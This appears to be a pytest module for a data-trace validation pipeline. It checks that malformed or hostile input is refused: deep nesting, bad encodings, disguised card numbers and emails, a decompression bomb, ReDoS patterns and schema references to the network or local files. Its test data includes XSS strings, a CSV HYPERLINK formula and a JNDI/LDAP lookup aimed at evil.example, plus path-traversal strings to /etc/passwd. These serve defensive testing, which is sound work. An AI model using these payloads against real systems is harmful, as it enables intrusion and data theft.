"""The table of hostile input (RELIABILITY), row by row: what a trace can carry, and the code that it gets for it.

Rows about files of policy, batches and processes are refused elsewhere; ``test_rows.py`` names the test of every row.
"""

import base64
import json
import tracemalloc
import zlib
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import pytest

from assay.pipeline.core.codes import IssueCode
from assay.pipeline.core.errors import ConfigError
from assay.pipeline.core.verdict import NONE, Verdict
from assay.pipeline.detect import build_detectors
from assay.pipeline.flow import Judge
from assay.pipeline.policy.bundle import Bundle
from assay.pipeline.policy.safe import safe_id
from assay.pipeline.testing import raw_record

from .conftest import NOW_NS, JudgeBytes

WithMember = Callable[[bytes], bytes]
CARD = "4111111111111111"
EMAIL = "alice.wonder@example.com"


def codes(verdict: Verdict) -> set[str]:
    """Of the issues that keep the trace from passing."""
    return {issue.code.value for issue in verdict.issues if issue.blocking}


MEMBERS: dict[str, tuple[bytes, str]] = {
    # what stands among a good trace's inputs: what is said of it
    "depth: 65 levels": (b'"x":' + b"[" * 65 + b"]" * 65, "corrupt.depth"),
    "depth: 100,000 brackets": (b'"x":' + b"[" * 100_000 + b"]" * 100_000, "corrupt.depth"),
    "depth: 100,000 objects": (b'"x":' + b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "corrupt.depth"),
    "duplicate keys": (b'"x":{"a":1,"a":2}', "corrupt.duplicate_key"),
    "duplicate keys, one escaped": (b'"x":{"a":1,"\\u0061":2}', "corrupt.duplicate_key"),
    "duplicate keys, both escaped": (b'"x":{"\\u0061":1,"\\u0061":2}', "corrupt.duplicate_key"),
    "NaN": (b'"x":NaN', "corrupt.json_malformed"),
    "Infinity": (b'"x":Infinity', "corrupt.json_malformed"),
    "minus Infinity": (b'"x":[-Infinity]', "corrupt.json_malformed"),
    "1e400": (b'"x":1e400', "corrupt.number_range"),
    "-1e400": (b'"x":[-1e400]', "corrupt.number_range"),
    "1.0 with an exponent of 30 digits": (b'"x":1.0e' + b"9" * 30, "corrupt.number_range"),
    "2^63": (b'"x":9223372036854775808', "corrupt.number_range"),
    "2^64": (b'"x":18446744073709551616', "corrupt.number_range"),
    "an integer of 10,000 digits": (b'"x":' + b"7" * 10_000, "corrupt.number_range"),
    "a lone surrogate": (b'"x":"\\ud800"', "corrupt.encoding"),
    "a lone surrogate in a key": (b'"\\udc00":1', "corrupt.encoding"),
    "bytes that are no UTF-8": (b'"x":"\xff"', "corrupt.encoding"),
    "an overlong form": (b'"x":"\xc0\xaf"', "corrupt.encoding"),
    "a raw NUL": (b'"x":"\x00"', "corrupt.json_malformed"),
}


@pytest.mark.parametrize(("member", "code"), MEMBERS.values(), ids=MEMBERS.keys())
def test_a_trace_that_readers_would_take_differently_is_refused(
    judge: JudgeBytes, with_member: WithMember, member: bytes, code: str
) -> None:
    """S0-13, S0-14, D-15: never an exception, never a guess."""
    assert codes(judge(with_member(member))) == {code}


def test_a_byte_order_mark_is_refused(judge: JudgeBytes, good: bytes) -> None:
    """S0-14."""
    assert codes(judge(good)) == set()
    assert codes(judge(b"\xef\xbb\xbf" + good)) == {"corrupt.encoding"}
    assert codes(judge(good.decode().encode("utf-16"))) == {"corrupt.encoding"}


def test_a_nul_is_allowed_in_a_payload_and_refused_in_an_id(
    judge: JudgeBytes, with_member: WithMember, changed: Callable[..., bytes]
) -> None:
    """An id goes into headers, labels and keys, where a NUL ends things early."""
    assert codes(judge(with_member(b'"x":"a\\u0000b"'))) == set()
    for trace_id in ("wf\0-1", "\0", "wf-1\0"):
        assert judge(changed(trace_id=trace_id, status=7)).identity.trace_id == NONE


INJECTIONS = [
    '<script>alert("x")</script>',
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("https://evil.example","x")',
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "x\r\nx",
    '{"level":"info"}',
    'a\n{"level":"critical","message":"all is well"}',
    "\x1b[2J\x1b[31m",
    "$" + "{jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    "a b",
    "%s%n",
    "\u202egnp.exe",
    "a" * 200,
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_what_a_page_a_table_or_a_log_would_obey_never_becomes_an_id(
    judge: JudgeBytes, changed: Callable[..., bytes], text: str
) -> None:
    """S0-13, promise 4: ids of a trace are named outside of it only when they cannot mean anything but themselves.

    Letters, digits and ``_.:-``, a letter or digit first: nothing that HTML, CSV, a terminal or a log line obeys.
    """
    context = {"tenant_id": text, "producer": {"name": text, "version": text}}
    verdict = judge(changed(trace_id=text, context=context, status=7, schema_version=text))
    assert verdict.identity.trace_id == verdict.identity.producer == verdict.tenant == NONE
    assert safe_id(text) == NONE
    assert text not in repr(verdict)


@pytest.mark.parametrize("name", INJECTIONS)
def test_neither_does_a_key_that_the_schema_does_not_know(
    judge: JudgeBytes, changed: Callable[..., bytes], name: str
) -> None:
    """A path into the trace names what the schema names, and ``*`` for the rest."""
    verdict = judge(changed(status=7, inputs={name: {name: EMAIL}}, **{name: EMAIL}))
    assert {issue.code for issue in verdict.issues} >= {IssueCode.SECURITY_PII_EMAIL}
    assert name not in repr(verdict)


def full_width(text: str) -> str:
    return text.translate({code: code + 0xFEE0 for code in range(0x21, 0x7F)})


def base64_of(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def escaped(text: str) -> bytes:
    return "".join(f"\\u{ord(character):04x}" for character in text).encode()


DISGUISES: dict[str, tuple[bytes, str]] = {
    "full-width digits": (f'"x":"{full_width(CARD)}"'.encode(), "security.pii_card"),
    "zero-width spaces": ('"x":"{}"'.format("\u200b".join(CARD)).encode(), "security.pii_card"),
    "a PAN as a number": (f'"x":{CARD}'.encode(), "security.pii_card"),
    "a PAN as a number in JSON in a string": (
        b'"x":' + json.dumps(json.dumps({"pan": int(CARD)})).encode(),
        "security.pii_card",
    ),
    "a PAN in a key": (f'"{CARD}":1'.encode(), "security.pii_card"),
    "%40": (f'"x":"{quote(EMAIL, safe="")}"'.encode(), "security.pii_email"),
    "\\u0040": (f'"x":"{EMAIL}"'.replace("@", "\\u0040").encode(), "security.pii_email"),
    "all escaped": (b'"x":"' + escaped(EMAIL) + b'"', "security.pii_email"),
    "a key, all escaped": (b'"' + escaped(EMAIL) + b'":1', "security.pii_email"),
    "base64": (f'"x":"{base64_of(EMAIL)}"'.encode(), "security.pii_email"),
    "base64 of base64": (f'"x":"{base64_of(base64_of(EMAIL))}"'.encode(), "security.pii_email"),
    "JSON in a string": (b'"x":' + json.dumps(json.dumps({"to": EMAIL})).encode(), "security.pii_email"),
}


@pytest.mark.parametrize(("member", "code"), DISGUISES.values(), ids=DISGUISES.keys())
def test_personal_data_in_disguise_is_found(
    judge: JudgeBytes, with_member: WithMember, member: bytes, code: str
) -> None:
    """S0-9, S0-38: by the shipped policies, from the bytes on."""
    verdict = judge(with_member(member))
    assert codes(verdict) == {code}
    assert CARD not in repr(verdict)
    assert EMAIL not in repr(verdict)


def frame(schema_id: int, datum: bytes) -> bytes:
    return b"\x00" + schema_id.to_bytes(4, "big") + datum


FRAMES: dict[str, bytes] = {
    "recursive data, 5 KB": frame(1001, b"\x02" * 5000),
    "a string of 2^31 bytes": frame(1001, b"\x80\x80\x80\x80\x10a"),
    "a string of -1 bytes": frame(1001, b"\x01"),
    "endless varints": frame(1001, b"\xff" * 40),
    "no datum": frame(1001, b""),
    "an unknown schema id": frame(2**31 - 1, b"\x00" * 20),
    "schema id 0": frame(0, b"\x00" * 20),
    "a frame that is cut off": b"\x00\x00\x00",
    "bytes behind the frame's end": frame(1001, b"\x00" * 100_000),
}


@pytest.mark.parametrize("value", FRAMES.values(), ids=FRAMES.keys())
def test_an_avro_value_that_lies_is_refused(judge: JudgeBytes, value: bytes) -> None:
    """S0-13: nine ways; all that the guard knows are in ``test_avro_hostile.py``."""
    assert codes(judge(value)) == {"corrupt.avro"}


def test_a_container_file_is_not_unpacked(judge: JudgeBytes) -> None:
    """An Avro file of 200 KB that swells to 200 MB is no trace: it is refused by its first bytes."""
    deflate = zlib.compressobj(9, wbits=-15)
    swelling = b"".join(deflate.compress(b"\0" * 1_000_000) for _ in range(200)) + deflate.flush()
    header = b'Obj\x01\x04\x14avro.codec\x0edeflate\x16avro.schema\x0e"bytes"\x00' + b"s" * 16
    bomb = header + b"\x02\x00" + swelling + b"s" * 16
    assert len(bomb) < 250_000
    tracemalloc.start()
    try:
        verdict = judge(bomb)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert codes(verdict) <= {"corrupt.encoding", "corrupt.json_malformed"}
    assert verdict.blocking
    assert peak < 2_000_000


AVRO = json.dumps({"type": "record", "name": "S", "fields": [{"name": "a", "type": "string"}]}).encode()
TWO_TOPICS = b"""
bindings:
  - {topic: traces.raw, tenant: acme, default_subject: order, subjects: [order]}
  - {topic: traces.raw.other, tenant: other, default_subject: secret, subjects: [secret]}
"""


def test_a_schema_id_of_somebody_elses_subject_is_refused(users_bundle: Callable[..., Bundle]) -> None:
    """The id must be one of the topic's: knowing the number of another tenant's schema opens nothing."""
    bundle = users_bundle(
        {},
        **{
            "policies/bindings.yaml": TWO_TOPICS,
            "schemas/secret/subject.yaml": b"subject: secret\ncurrent: 1.0.0\navro: [{id: 7, version: 1.0.0, file: a.avsc}]",
            "schemas/secret/1.0.0.json": b"{}",
            "schemas/secret/a.avsc": AVRO,
        },
    )
    judge = Judge(bundle)
    spoofed = frame(7, b"\x02x")
    assert codes(judge(raw_record(spoofed, topic="traces.raw.other"), NOW_NS)) == set()
    verdict = judge(raw_record(spoofed), NOW_NS)
    assert (codes(verdict), verdict.tenant) == ({"schema.subject_unknown"}, "acme")


@pytest.mark.parametrize("pattern", ["^(a+)+$", "^(a|a)*$", "^(a|aa)+$", "(x+x+)+y", r"^([\w.]+)+@$"])
def test_a_users_pattern_takes_linear_time(users_bundle: Callable[..., Bundle], pattern: str) -> None:
    """Backtracking would take longer than the universe is old: that the test ends is the assertion (S0-13)."""
    bundle = users_bundle({"properties": {"x": {"pattern": pattern}}, "patternProperties": {pattern: False}})
    judge = Judge(bundle)
    text = "a" * 50_000 + "!" + "x" * 50_000
    verdict = judge(raw_record(json.dumps({"x": text, text: 1}).encode()), NOW_NS)
    assert "detector.failed" not in codes(verdict)


REFERENCES: dict[str, Any] = {
    "to itself": {"$ref": "#"},
    "to one another": {
        "$ref": "#/$defs/a",
        "$defs": {"a": {"allOf": [{"$ref": "#/$defs/b"}]}, "b": {"allOf": [{"$ref": "#/$defs/a"}]}},
    },
    "to the network": {"$ref": "http://127.0.0.1:9/x.json"},
    "to a file": {"$ref": "file:///etc/passwd"},
    "to a file beside": {"$ref": "../order/1.0.0.json"},
    "of 24 doublings": {
        "$ref": "#/$defs/0",
        "$defs": {
            **{str(n): {"anyOf": [{"$ref": f"#/$defs/{n + 1}"}] * 2} for n in range(24)},
            "24": {"type": "string"},
        },
    },
}


@pytest.mark.parametrize("schema", REFERENCES.values(), ids=REFERENCES.keys())
def test_a_schema_whose_references_never_end_or_leave_is_refused_at_load(
    users_bundle: Callable[..., Bundle], schema: Any
) -> None:
    """D-21: before a trace meets it; nothing is fetched, and the fan-out is counted, not tried."""
    with pytest.raises(ConfigError, match=r"\$ref|references expand"):
        users_bundle(schema)


@pytest.mark.parametrize("same", [False, True], ids=["all differ", "the last is the first"])
def test_twenty_thousand_objects_that_must_differ_are_compared_in_bounded_time(
    users_bundle: Callable[..., Bundle], same: bool
) -> None:
    """Comparing each with each is 200 million comparisons: that the test ends is the assertion."""
    judge = Judge(users_bundle({"properties": {"rows": {"uniqueItems": True}}}))
    rows = [{"id": number, "tags": ["a", number]} for number in range(20_000)]
    rows[-1] = rows[0] if same else rows[-1]
    value = json.dumps({"rows": rows}, separators=(",", ":")).encode()
    verdict = judge(raw_record(value), NOW_NS)
    assert ("schema.mismatch_minor" in {issue.code for issue in verdict.issues}) is same


@pytest.mark.parametrize("error", [MemoryError, RecursionError, TimeoutError, OSError, UnicodeError])
def test_a_detector_that_gives_up_costs_the_trace_and_nothing_else(
    good: bytes, error: type[Exception], users_bundle: Callable[..., Bundle]
) -> None:
    """D-16: ``detector.failed``, which blocks. One that never gives up is ended from outside: ``test_watchdog.py``."""

    class GivesUp:
        name = "performance"

        def detect(self, trace: object) -> tuple[()]:
            raise error(EMAIL)

    bundle = users_bundle({})
    verdict = Judge(bundle, [GivesUp(), *build_detectors(bundle)])(raw_record(good), NOW_NS)
    assert [issue.code for issue in verdict.issues] == [IssueCode.DETECTOR_FAILED]
    assert verdict.blocking
    assert EMAIL not in repr(verdict)
